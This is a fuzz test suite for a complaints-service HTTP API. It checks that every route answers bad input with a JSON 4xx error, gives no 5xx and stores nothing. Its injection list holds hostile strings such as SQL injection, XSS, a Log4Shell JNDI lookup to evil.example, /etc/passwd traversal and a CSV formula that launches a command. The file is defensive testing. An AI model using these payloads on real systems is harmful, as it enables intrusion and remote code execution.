import { request as httpRequest } from "node:http";
import { brotliCompressSync, deflateSync, gzipSync } from "node:zlib";
import { DynamoDBClient, ScanCommand } from "@aws-sdk/client-dynamodb";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import * as z from "zod/mini";
import { customerHistoryQuerySchema, customerIdSchema } from "../../functions/app/customer-history";
import { regulatoryReportQuerySchema, slaReportQuerySchema } from "../../functions/app/reports";
import { annualDisclosureQuerySchema, fcaReturnQuerySchema } from "../../functions/app/returns";
import { rootCauseReportQuerySchema } from "../../functions/app/root-causes";
import { calendarLoadSchema } from "../../functions/domain/calendar";
import {
  attachmentIdSchema,
  attachmentUploadRequestSchema,
  calendarsQuerySchema,
  customerReplySchema,
  feedbackSchema,
  intakeRequestSchema,
  queueQuerySchema,
  staffActionSchema,
  teamSchema,
  teamsQuerySchema,
} from "../../functions/domain/schemas";
import type { HandlerId } from "../../functions/handlers/catalog";
import { MAX_BODY_BYTES, ROUTES, type Route } from "../../functions/http/routes";
import { head, rawHttp } from "../unit/http/raw-http";
import { complaintBody, type Harness, newKey, startHarness } from "./harness";

/*
 * Bad input at every route: malformed JSON, wrong types, huge bodies, deep nesting, unicode edge cases,
 * injection strings and header abuse. Every answer must be a 4xx with `{ error: { code, message,
 * details? } }`; no 5xx; and nothing may be stored (the table's item count, read from DynamoDB Local
 * directly, is the same before and after). Each generated request is built to be invalid for its route
 * (bodies and parameters are filtered against the route's own schemas), so a 2xx is a finding too.
 */
const RUNS_PER_PROPERTY = Number(process.env.FUZZ_RUNS ?? 60);

let h: Harness;
let raw: DynamoDBClient;
let existingId = "";
let itemsBefore = 0;
let cases = 0;

const countItems = async () => {
  let total = 0;
  let start: Record<string, unknown> | undefined;
  do {
    const out = await raw.send(
      new ScanCommand({
        TableName: h.stack.tableName,
        Select: "COUNT",
        ...(start ? { ExclusiveStartKey: start as never } : {}),
      }),
    );
    total += out.Count ?? 0;
    start = out.LastEvaluatedKey;
  } while (start);
  return total;
};

beforeAll(async () => {
  h = await startHarness();
  raw = new DynamoDBClient({
    endpoint: h.stack.dynamoEndpoint,
    region: "us-east-1",
    credentials: { accessKeyId: "local", secretAccessKey: "local" },
  });
  // One real complaint, so requests with a valid id reach body validation and the store.
  const res = await h.submit("mobile_app", complaintBody());
  expect(res.status).toBe(201);
  existingId = res.body.id;
  await h.waitFor(
    async () => (await h.staff("GET", `/staff/complaints/${existingId}`, await manager())).body.status,
    (s) => s === "in_progress",
  );
  await new Promise((r) => setTimeout(r, 500));
  // The stream's consumers (the report aggregates among them) have written what the complaint calls for.
  await h.stack.stream.drained();
  itemsBefore = await countItems();
});
afterAll(async () => {
  raw?.destroy();
  await h?.stop();
});

const manager = () => h.staffToken(["cards"], "manager", "fuzz-manager");

// --- raw HTTP: duplicated headers, odd paths and bytes that fetch would normalise away ----------------
interface RawRequest {
  method: string;
  path: string;
  headers: Record<string, string | string[]>;
  body?: string | Buffer;
}
interface RawResponse {
  status: number;
  text: string;
  headers: Record<string, string | string[] | undefined>;
}
const send = (req: RawRequest): Promise<RawResponse> =>
  new Promise((resolve, reject) => {
    const url = new URL(h.url);
    const r = httpRequest(
      { hostname: url.hostname, port: url.port, method: req.method, path: req.path, headers: req.headers },
      (res) => {
        const chunks: Buffer[] = [];
        res.on("data", (c: Buffer) => chunks.push(c));
        res.on("end", () =>
          resolve({
            status: res.statusCode ?? 0,
            text: Buffer.concat(chunks).toString("utf8"),
            headers: res.headers,
          }),
        );
        res.on("error", reject);
      },
    );
    r.on("error", reject);
    r.end(req.body);
  });

/** A 4xx in the error shape, carrying the request id the answer's header carries; answers the error. */
const assertErrorAnswer = (req: RawRequest, res: RawResponse) => {
  cases++;
  const where = `${req.method} ${req.path} -> ${res.status} ${res.text.slice(0, 300)}`;
  expect(res.status, where).toBeGreaterThanOrEqual(400);
  expect(res.status, where).toBeLessThan(500);
  let body: unknown;
  try {
    body = JSON.parse(res.text);
  } catch {
    throw new Error(`not JSON: ${where}`);
  }
  expect(Object.keys(body as object), where).toEqual(["error"]);
  const error = (body as { error: Record<string, unknown> }).error;
  expect(typeof error.code, where).toBe("string");
  expect(typeof error.message, where).toBe("string");
  expect(error.requestId, where).toBe(res.headers["x-amzn-requestid"]);
  expect(typeof error.requestId, where).toBe("string");
  for (const k of Object.keys(error)) expect(["code", "message", "details", "requestId"], where).toContain(k);
  return error as { code: string; message: string; details?: { path: string; message: string }[] };
};

/** Every character of a string as a JSON \\u escape (so no raw byte of it is on the wire). */
const escapeAll = (s: string) =>
  [...s]
    .flatMap((ch) => (ch.length === 2 ? [ch.charCodeAt(0), ch.charCodeAt(1)] : [ch.charCodeAt(0)]))
    .map((c) => `\\u${c.toString(16).padStart(4, "0")}`)
    .join("");

// --- generators ----------------------------------------------------------------------------------------
const INJECTIONS = [
  "' OR '1'='1' --",
  '"; DROP TABLE complaints; --',
  "<script>alert(1)</script>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell probe is exactly this literal text
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "../../../../etc/passwd",
  "%00",
  "\u0000",
  '{"$ne": null}',
  "__proto__",
  "constructor",
  "COMPLAINT#01ARZ3NDEKTSV4RRFFQ69G5FAV",
  "=cmd|' /C calc'!A0",
  "\r\nSet-Cookie: x=1",
];
const UNICODE = [
  "\ud800",
  "\udfff",
  "a\ud83dz",
  "\u202eevil\u202c",
  "مرحبا بالعالم",
  "\u200b\u200c\u200d\ufeff",
  "👩‍👩‍👧‍👦🏳️‍🌈",
  "\u0301\u0301\u0301",
  "Ｆｕｌｌｗｉｄｔｈ",
  "\uffff\ufffe",
  "𝕏".repeat(300),
];
const edgeString = fc.oneof(
  fc.constantFrom(...INJECTIONS, ...UNICODE),
  fc.string({ unit: "grapheme", maxLength: 40 }),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ maxLength: 20 }),
);
const edgeValue: fc.Arbitrary<unknown> = fc.oneof(
  edgeString,
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(edgeString, { maxLength: 3 }),
  fc.dictionary(edgeString, edgeString, { maxKeys: 3 }),
);

const nested = (depth: number, kind: "array" | "object") =>
  kind === "array"
    ? `${"[".repeat(depth)}${"]".repeat(depth)}`
    : `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;

/** Takes a valid body and breaks it: a field of the wrong type, an unknown field, a unicode or injection value. */
const mutated = (valid: Record<string, unknown>) =>
  fc
    .tuple(
      fc.constantFrom(...Object.keys(valid), "__proto__", "constructor", "extra", "type"),
      edgeValue,
      fc.boolean(),
    )
    .map(([key, value, drop]) => {
      const copy: Record<string, unknown> = JSON.parse(JSON.stringify(valid));
      if (drop) delete copy[key];
      else copy[key] = value;
      return JSON.stringify(copy);
    });

/** Bodies that are never valid for `schema`: malformed, wrong shapes, nesting, huge, broken variants. */
const badBody = (schema: z.ZodMiniType, valid: Record<string, unknown>): fc.Arbitrary<string | Buffer> =>
  fc
    .oneof(
      // Malformed JSON.
      fc.oneof(
        fc.string({ maxLength: 50 }),
        fc.constantFrom(
          "{",
          "[",
          '{"a":}',
          "{'a':1}",
          "nul",
          "tru",
          '{"a":1,}',
          "\ufeff{}",
          "NaN",
          "1e999999",
        ),
        fc.jsonValue().map((v) => JSON.stringify(v).slice(0, -1)),
      ),
      // Any JSON at all, and JSON of the right shape with wrong types.
      fc.jsonValue({ maxDepth: 4 }).map((v) => JSON.stringify(v)),
      mutated(valid),
      // Deep nesting.
      fc
        .tuple(fc.integer({ min: 50, max: 20_000 }), fc.constantFrom("array" as const, "object" as const))
        .map(([d, k]) => nested(d, k)),
      // Huge: just over the limit, and far over it.
      fc
        .constantFrom(MAX_BODY_BYTES + 1, 2 * MAX_BODY_BYTES)
        .map((n) => JSON.stringify({ ...valid, description: "x".repeat(n) })),
      // Bytes that are not UTF-8.
      fc.uint8Array({ minLength: 1, maxLength: 64 }).map((a) => Buffer.from([0xff, 0xfe, ...a])),
    )
    .filter((body) => {
      if (Buffer.isBuffer(body)) return true;
      try {
        return !schema.safeParse(JSON.parse(body)).success;
      } catch {
        return true;
      }
    });

const CONTENT_TYPES = [
  "application/json",
  "application/json; charset=utf-8",
  "APPLICATION/JSON",
  "application/json; charset=latin1",
  "application/json; charset=ISO-8859-1",
  "text/plain",
  "application/xml",
  "multipart/form-data; boundary=x",
  "application/x-www-form-urlencoded",
  "application/json; charset=utf-16",
  "application/json, text/plain",
  "",
];

/** Header abuse on top of valid credentials: none, duplicated, oversized, garbled. */
type Abuse = "none" | "no_credentials" | "duplicate_credentials" | "garbled_credentials" | "oversized_header";
const abuse = fc.constantFrom<Abuse>(
  "none",
  "none",
  "no_credentials",
  "duplicate_credentials",
  "garbled_credentials",
  "oversized_header",
);

interface RouteFuzz {
  bodySchema?: z.ZodMiniType;
  validBody?: Record<string, unknown>;
  querySchema?: z.ZodMiniType;
  /** Path parameters whose valid values would be answered 200 (they are filtered out). */
  paramSchemas?: Record<string, z.ZodMiniType>;
  /** Path parameters of a real target, for the body cases (default: the existing complaint). */
  validParams?: Record<string, string>;
}
/** A profile per route; a route added to ROUTES without one fails the first test below. */
const FUZZ: Partial<Record<HandlerId, RouteFuzz>> = {
  intake: { bodySchema: intakeRequestSchema, validBody: complaintBody() },
  getComplaint: {},
  customerReply: { bodySchema: customerReplySchema, validBody: { message: "The gold card" } },
  feedback: { bodySchema: feedbackSchema, validBody: { satisfaction: 4, outcome: "accept" } },
  queue: { querySchema: queueQuerySchema, paramSchemas: { team: teamSchema } },
  listNotices: {},
  teams: { querySchema: teamsQuerySchema },
  customerHistory: { querySchema: customerHistoryQuerySchema, paramSchemas: { id: customerIdSchema } },
  reportsRootCauses: { querySchema: rootCauseReportQuerySchema },
  staffGetComplaint: {},
  staffAction: { bodySchema: staffActionSchema, validBody: { type: "note", note: "n" } },
  verifyAudit: {},
  reportsSla: { querySchema: slaReportQuerySchema },
  reportsRegulatory: { querySchema: regulatoryReportQuerySchema },
  reportsFcaReturn: { querySchema: fcaReturnQuerySchema },
  reportsAnnualDisclosure: { querySchema: annualDisclosureQuerySchema },
  calendarsGet: { querySchema: calendarsQuerySchema },
  // Bad bodies against a real calendar year: none may load (the schema refuses every one of them).
  calendarsPut: {
    bodySchema: calendarLoadSchema,
    validBody: { source: "fuzz", holidays: [], workdays: [] },
    paramSchemas: {
      id: z.string().check(z.regex(/^(CN|GB|GB-EAW|GB-SCT|GB-NIR|US|EU)$/)),
      year: z.string().check(z.regex(/^\d{4}$/)),
    },
    validParams: { id: "CN", year: "2027" },
  },
  attachmentsUpload: {
    bodySchema: attachmentUploadRequestSchema,
    validBody: {
      fileName: "statement.pdf",
      contentType: "application/pdf",
      size: 1024,
      sha256: "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=",
    },
  },
  attachmentsList: {},
  attachmentsDownload: { paramSchemas: { attachmentId: attachmentIdSchema } },
};

const credentials = async (route: Route, how: Abuse): Promise<Record<string, string | string[]>> => {
  const good =
    route.auth === "channel"
      ? { name: "x-api-key", value: h.apiKey("mobile_app") }
      : { name: "authorization", value: `Bearer ${await manager()}` };
  switch (how) {
    case "no_credentials":
      return {};
    case "duplicate_credentials":
      // Node keeps the first of duplicated Authorization headers and joins duplicated x-api-key ones.
      return { [good.name]: [`${good.value}x`, good.value] };
    case "garbled_credentials": {
      // One character changed, to one it is not (keys are random per run: a fixed "x" was sometimes no change).
      const at = good.value.length - 3;
      const swapped = good.value[at] === "x" ? "y" : "x";
      return { [good.name]: `${good.value.slice(0, at)}${swapped}${good.value.slice(at + 1)}` };
    }
    case "oversized_header":
      return { [good.name]: good.value, "x-padding": "p".repeat(12_000) };
    default:
      return { [good.name]: good.value };
  }
};

/** A path parameter that is not a real complaint id / team: invalid, or valid-looking but absent. */
const badParam = (schema?: z.ZodMiniType) =>
  fc
    .oneof(
      edgeString,
      fc.constantFrom("01ARZ3NDEKTSV4RRFFQ69G5FAV", "..", ".", "%", "%E0%A4%A", "%2F", "a".repeat(2000)),
    )
    .filter((v) => v.length > 0 && v !== existingId)
    .filter((v) => !schema?.safeParse(v).success)
    .map((v) => (RAW_PARAMS.has(v) ? v : percentEncode(v)));

/** Sent as they are: dot segments and broken percent-encoding. */
const RAW_PARAMS = new Set(["..", ".", "%", "%E0%A4%A", "%2F"]);
/** encodeURIComponent, or the UTF-8 bytes of a string it refuses (a lone surrogate). */
const percentEncode = (v: string) => {
  try {
    return encodeURIComponent(v);
  } catch {
    return [...Buffer.from(v, "utf8")].map((b) => `%${b.toString(16).padStart(2, "0")}`).join("");
  }
};

const pathFor = (route: Route, params: Record<string, string>) =>
  route.path.replace(/\{(\w+)\}/g, (_, name: string) => params[name] ?? existingId);

const badQuery = (schema: z.ZodMiniType) =>
  fc
    .dictionary(
      fc.constantFrom("limit", "cursor", "stage", "tier", "from", "to", "groupBy", "period", "format", "x"),
      fc.oneof(edgeString, fc.constantFrom("-1", "0", "1e9", "2026-13", "2026Q5", "csv", "NaN")),
      { minKeys: 1, maxKeys: 4 },
    )
    .filter((q) => !schema.safeParse(q).success)
    .map((q) => new URLSearchParams(q as Record<string, string>).toString());

// --- the properties --------------------------------------------------------------------------------------
describe("bad input at every route", () => {
  const routes = ROUTES.map((route) => ({ route, fuzz: FUZZ[route.handler] }));

  it("has a fuzz profile for every route in ROUTES", () => {
    for (const { route, fuzz } of routes) expect(fuzz, `${route.method} ${route.path}`).toBeDefined();
  });

  for (const { route, fuzz } of routes) {
    if (!fuzz) continue;
    const params = [...route.path.matchAll(/\{(\w+)\}/g)].map((m) => m[1] as string);

    if ((route.method === "POST" || route.method === "PUT") && fuzz.bodySchema && fuzz.validBody) {
      const schema = fuzz.bodySchema;
      const valid = fuzz.validBody;
      it(`${route.method} ${route.path}: bad bodies and header abuse answer 4xx`, async () => {
        await fc.assert(
          fc.asyncProperty(
            badBody(schema, valid),
            fc.constantFrom(...CONTENT_TYPES),
            abuse,
            fc.boolean(),
            fc.constantFrom("", "", "", "gzip", "identity", "br"),
            async (body, contentType, how, duplicateKey, encoding) => {
              const headers = await credentials(route, how);
              if (contentType) headers["content-type"] = contentType;
              if (encoding) headers["content-encoding"] = encoding;
              if (route.handler === "intake") {
                const key = newKey();
                headers["idempotency-key"] = duplicateKey ? [key, newKey()] : key;
              }
              const req: RawRequest = {
                method: route.method,
                path: pathFor(route, fuzz.validParams ?? {}),
                headers,
                body,
              };
              assertErrorAnswer(req, await send(req));
            },
          ),
          { numRuns: RUNS_PER_PROPERTY },
        );
      });
    }

    if (params.length > 0) {
      it(`${route.method} ${route.path}: bad path parameters answer 4xx`, async () => {
        await fc.assert(
          fc.asyncProperty(
            fc.tuple(...params.map((p) => badParam(fuzz.paramSchemas?.[p]))),
            abuse,
            async (values, how) => {
              const headers = await credentials(route, how);
              const body =
                route.method !== "GET" ? JSON.stringify(fuzz.validBody ?? { type: "claim" }) : undefined;
              if (body) headers["content-type"] = "application/json";
              if (route.handler === "intake") headers["idempotency-key"] = newKey();
              const req: RawRequest = {
                method: route.method,
                path: pathFor(route, Object.fromEntries(params.map((p, i) => [p, values[i] as string]))),
                headers,
                ...(body ? { body } : {}),
              };
              assertErrorAnswer(req, await send(req));
            },
          ),
          { numRuns: RUNS_PER_PROPERTY },
        );
      });
    }

    if (fuzz.querySchema) {
      const schema = fuzz.querySchema;
      it(`${route.method} ${route.path}: bad query strings answer 4xx`, async () => {
        await fc.assert(
          fc.asyncProperty(badQuery(schema), abuse, async (query, how) => {
            const req: RawRequest = {
              method: "GET",
              path: `${pathFor(route, { team: "cards", id: route.path.startsWith("/customers") ? "C-1001" : existingId })}?${query}`,
              headers: await credentials(route, how),
            };
            assertErrorAnswer(req, await send(req));
          }),
          { numRuns: RUNS_PER_PROPERTY },
        );
      });
    }

    if (route.method === "GET") {
      it(`${route.method} ${route.path}: missing, garbled or duplicated credentials answer 4xx`, async () => {
        await fc.assert(
          fc.asyncProperty(
            fc.constantFrom<Abuse>("no_credentials", "duplicate_credentials", "garbled_credentials"),
            async (how) => {
              const req: RawRequest = {
                method: "GET",
                path: pathFor(route, { team: "cards" }),
                headers: await credentials(route, how),
              };
              assertErrorAnswer(req, await send(req));
            },
          ),
          { numRuns: 10 },
        );
      });
    }
  }

  it("a valid complaint with a lone surrogate, or far too large, is refused, not stored", async () => {
    for (const description of ["broken \ud800 text", "x".repeat(11 * 1024 * 1024)]) {
      const req: RawRequest = {
        method: "POST",
        path: "/complaints",
        headers: {
          "x-api-key": h.apiKey("mobile_app"),
          "idempotency-key": newKey(),
          "content-type": "application/json",
        },
        body: JSON.stringify(complaintBody({ description })),
      };
      assertErrorAnswer(req, await send(req));
    }
  });

  it("a request whose headers are larger than the server accepts gets a JSON 4xx", async () => {
    const req: RawRequest = {
      method: "GET",
      path: `/complaints/${existingId}`,
      headers: { "x-api-key": h.apiKey("mobile_app"), "x-padding": "p".repeat(20_000) },
    };
    assertErrorAnswer(req, await send(req));
  });

  // --- the edge's rules, one at a time, on both sides of each line ----------------------------------------
  /** Sends raw bytes (repeated or `__proto__` headers, bodies in any bytes) and checks the error answer. */
  const wire = async (method: string, path: string, headers: [string, string][], body?: Buffer | string) => {
    const bytes = body === undefined ? undefined : Buffer.from(body);
    const all: [string, string][] = [
      ["Host", new URL(h.url).host],
      ...headers,
      ...(bytes ? ([["Content-Length", String(bytes.length)]] as [string, string][]) : []),
      ["Connection", "close"],
    ];
    const answer = await rawHttp(
      h.url,
      bytes ? Buffer.concat([Buffer.from(head(method, path, all)), bytes]) : head(method, path, all),
    );
    const req: RawRequest = { method, path, headers: Object.fromEntries(all) };
    return assertErrorAnswer(req, { status: answer.status, text: answer.body, headers: answer.headers });
  };
  const channel = (): [string, string] => ["x-api-key", h.apiKey("mobile_app")];
  const staffAuth = async (): Promise<[string, string]> => ["Authorization", `Bearer ${await manager()}`];
  const json: [string, string] = ["Content-Type", "application/json"];
  const replyPath = () => `/complaints/${existingId}/customer-reply`;
  // The complaint is in progress: a reply that passes the edge is refused by its state (409), changing nothing.
  const PASSED_THE_EDGE = "ACTION_NOT_ALLOWED";

  it("refuses a body declared in another charset (415) and reads the media type case-insensitively", async () => {
    const reply = JSON.stringify({ message: "The statement is attached" });
    for (const type of ["application/json; charset=latin1", "application/json; charset=ISO-8859-1"]) {
      expect((await wire("POST", replyPath(), [channel(), ["Content-Type", type]], reply)).code).toBe(
        "UNSUPPORTED_MEDIA_TYPE",
      );
    }
    const utf16 = Buffer.from(reply, "utf16le");
    expect(
      (
        await wire(
          "POST",
          replyPath(),
          [channel(), ["Content-Type", "application/json; charset=utf-16"]],
          utf16,
        )
      ).code,
    ).toBe("UNSUPPORTED_MEDIA_TYPE");
    for (const type of [
      "APPLICATION/JSON",
      "Application/Json; Charset=UTF-8",
      'application/json; charset="utf-8"',
    ]) {
      expect((await wire("POST", replyPath(), [channel(), ["Content-Type", type]], reply)).code, type).toBe(
        PASSED_THE_EDGE,
      );
    }
  });

  it("refuses bytes that are not UTF-8 with 400 INVALID_ENCODING, at intake too (nothing stored)", async () => {
    const bodies = [
      Buffer.from('{"message":"caf\xe9"}', "latin1"), // latin1
      Buffer.concat([Buffer.from('{"message":"'), Buffer.from([0xc0, 0xaf]), Buffer.from('"}')]), // overlong
      Buffer.concat([Buffer.from('{"message":"'), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from('"}')]), // surrogate
      Buffer.concat([Buffer.from('{"message":"'), Buffer.from([0xe4, 0xbd]), Buffer.from('"}')]), // cut short
    ];
    for (const body of bodies) {
      expect((await wire("POST", replyPath(), [channel(), json], body)).code).toBe("INVALID_ENCODING");
    }
    const intake = Buffer.from(JSON.stringify(complaintBody({ description: "Gebühr zweimal" })), "latin1");
    const error = await wire("POST", "/complaints", [channel(), json, ["Idempotency-Key", newKey()]], intake);
    expect(error.code).toBe("INVALID_ENCODING");
  });

  it("refuses a compressed body (Content-Encoding other than identity) with 415", async () => {
    const reply = JSON.stringify({ message: "The statement is attached" });
    const encodings: [string, Buffer][] = [
      ["gzip", gzipSync(reply)],
      ["deflate", deflateSync(reply)],
      ["br", brotliCompressSync(reply)],
      ["identity, gzip", gzipSync(reply)],
    ];
    for (const [coding, body] of encodings) {
      const error = await wire("POST", replyPath(), [channel(), json, ["Content-Encoding", coding]], body);
      expect(error.code, coding).toBe("UNSUPPORTED_MEDIA_TYPE");
    }
    const identity = await wire(
      "POST",
      replyPath(),
      [channel(), json, ["Content-Encoding", "identity"]],
      reply,
    );
    expect(identity.code).toBe(PASSED_THE_EDGE);
  });

  it("refuses a repeated Idempotency-Key, If-Match or Authorization with 400 naming the header", async () => {
    const body = JSON.stringify(complaintBody());
    const twoKeys = await wire(
      "POST",
      "/complaints",
      [channel(), json, ["Idempotency-Key", newKey()], ["Idempotency-Key", newKey()]],
      body,
    );
    expect(twoKeys).toMatchObject({
      code: "VALIDATION_FAILED",
      details: [{ path: "header.Idempotency-Key" }],
    });
    const reply = JSON.stringify({ message: "The statement is attached" });
    const twoMatches = await wire(
      "POST",
      replyPath(),
      [channel(), json, ["If-Match", '"1"'], ["if-match", '"2"']],
      reply,
    );
    expect(twoMatches).toMatchObject({ code: "VALIDATION_FAILED", details: [{ path: "header.If-Match" }] });
    const auth = await staffAuth();
    const twoTokens = await wire("GET", "/queues/cards", [auth, auth]);
    expect(twoTokens).toMatchObject({
      code: "VALIDATION_FAILED",
      details: [{ path: "header.Authorization" }],
    });
  });

  it("is not poisoned by header or query keys named after Object.prototype's (no 502, anywhere)", async () => {
    const names = ["constructor", "__proto__", "toString", "hasOwnProperty", "valueOf"];
    const poisoned = names.map((n): [string, string] => [n, "x"]);
    const query = names.map((n) => `${n}=1`).join("&");
    for (const route of ROUTES) {
      const credentials = route.auth === "channel" ? channel() : await staffAuth();
      // Each request is bad in one more way (a query key no schema has, a path parameter that is no id,
      // an empty object for a body), so the answer is the handler's 4xx: the poisoned names got there.
      const path = pathFor(route, { id: "not-an-id", team: "Not A Team" });
      const body = route.method === "POST" ? "{}" : undefined;
      const headers: [string, string][] = [credentials, ...poisoned, ...(body ? [json] : [])];
      if (route.handler === "intake") headers.push(["Idempotency-Key", newKey()]);
      const error = await wire(route.method, `${path}?${query}`, headers, body);
      expect(error.code, `${route.method} ${route.path}`).toMatch(/VALIDATION_FAILED|COMPLAINT_NOT_FOUND/);
    }
  });

  it("answers a good request with poisoned key names as if they were not there", async () => {
    const names = ["constructor", "__proto__", "toString", "hasOwnProperty", "valueOf"];
    const res = await rawHttp(
      h.url,
      head("GET", `/complaints/${existingId}?${names.map((n) => `${n}=1`).join("&")}`, [
        ["Host", new URL(h.url).host],
        channel(),
        ...names.map((n): [string, string] => [n, "x"]),
        ["Connection", "close"],
      ]),
    );
    expect(res.status).toBe(200);
    expect(JSON.parse(res.body).id).toBe(existingId);
  });

  it("refuses bidi controls, zero-width spaces, U+FFFD and C1 controls at the field's path; keeps ZWJ emoji", async () => {
    const refused = [
      "pay \u202Eevil\u202C",
      "a\u2067b\u2069",
      "Li\u200BLei",
      "Li\uFEFFLei",
      "caf\uFFFD",
      "a\u0085b",
    ];
    for (const text of refused) {
      // Sent as the UTF-8 bytes of the characters, as any JSON client sends them (and as \u escapes).
      for (const body of [JSON.stringify({ message: text }), `{"message":"${escapeAll(text)}"}`]) {
        const error = await wire("POST", replyPath(), [channel(), json], body);
        expect(error, JSON.stringify(text)).toMatchObject({
          code: "VALIDATION_FAILED",
          details: [{ path: "message" }],
        });
      }
    }
    // A description with emoji joined by U+200D passes; the complaint is refused for its segment alone.
    const zwj = complaintBody({
      description: "👩\u200D👩\u200D👧\u200D👦 were charged twice 🏳️\u200D🌈",
      customer: { id: "C-1001", segment: "not_a_segment" },
    });
    const error = await wire(
      "POST",
      "/complaints",
      [channel(), json, ["Idempotency-Key", newKey()]],
      JSON.stringify(zwj),
    );
    expect(error.details?.map((d) => d.path)).toEqual(["customer.segment"]);
    expect(
      (await wire("POST", replyPath(), [channel(), json], JSON.stringify({ message: "谢谢 👍🏽\u200D" })))
        .code,
    ).toBe(PASSED_THE_EDGE);
  });

  it("reads numbers in query strings as plain digits only: limit=0x10, 1e1, ' 5', '+5' are refused", async () => {
    const auth = await staffAuth();
    for (const limit of ["0x10", "1e1", "%205", "%2B5", "5.0", "-1"]) {
      for (const path of ["/queues/cards", "/customers/C-1001/complaints"]) {
        const error = await wire("GET", `${path}?limit=${limit}`, [auth]);
        expect(error, `${path} limit=${limit}`).toMatchObject({
          code: "VALIDATION_FAILED",
          details: [{ path: "query.limit" }],
        });
      }
    }
    // limit=10 is fine: the only fault left is the unknown parameter beside it.
    const error = await wire("GET", "/queues/cards?limit=10&tier=0x1", [auth]);
    expect(error.details?.map((d) => d.path)).toEqual(["query.tier"]);
  });

  it("refuses implausible dates in staff actions and report ranges", async () => {
    const auth = await staffAuth();
    const actions = [
      {
        type: "resolve",
        resolution: {
          outcome: "upheld",
          summary: "Refunded",
          rootCause: "process",
          remediation: { description: "Retrain", owner: "Branch ops", dueBy: "0000-01-01" },
        },
      },
      { type: "extend", level: "holding_reply", expectedBy: "2999-01-01", reason: "Waiting for the scheme" },
    ];
    const paths = ["resolution.remediation.dueBy", "expectedBy"];
    for (const [i, action] of actions.entries()) {
      const error = await wire(
        "POST",
        `/staff/complaints/${existingId}/actions`,
        [auth, json],
        JSON.stringify(action),
      );
      expect(error).toMatchObject({ code: "VALIDATION_FAILED", details: [{ path: paths[i] }] });
    }
    for (const report of ["/reports/sla", "/reports/root-causes"]) {
      const error = await wire("GET", `${report}?from=0000-01-01&to=2026-12-01`, [auth]);
      expect(error.details?.map((d) => d.path)).toEqual(["query.from"]);
    }
  });

  it("answers a declared Content-Length over the cap with 413 at once, without credentials or a body", async () => {
    for (const path of ["/complaints", replyPath(), `/staff/complaints/${existingId}/actions`]) {
      const answer = await rawHttp(
        h.url,
        head("POST", path, [
          ["Host", new URL(h.url).host],
          json,
          ["Content-Length", String(11 * 1024 * 1024)],
        ]),
      );
      const req: RawRequest = { method: "POST", path, headers: {} };
      const error = assertErrorAnswer(req, {
        status: answer.status,
        text: answer.body,
        headers: answer.headers,
      });
      expect(error.code).toBe("PAYLOAD_TOO_LARGE");
      expect(answer.ms).toBeLessThan(1_000);
    }
  });

  it("stored nothing, answered no 5xx, and reports how many cases it tried", async () => {
    expect(await countItems()).toBe(itemsBefore);
    process.stdout.write(
      `\nfuzz: ${cases} bad requests tried across ${ROUTES.length} routes, 0 answered 5xx\n`,
    );
    expect(cases).toBeGreaterThan(ROUTES.length * 10);
  });
});
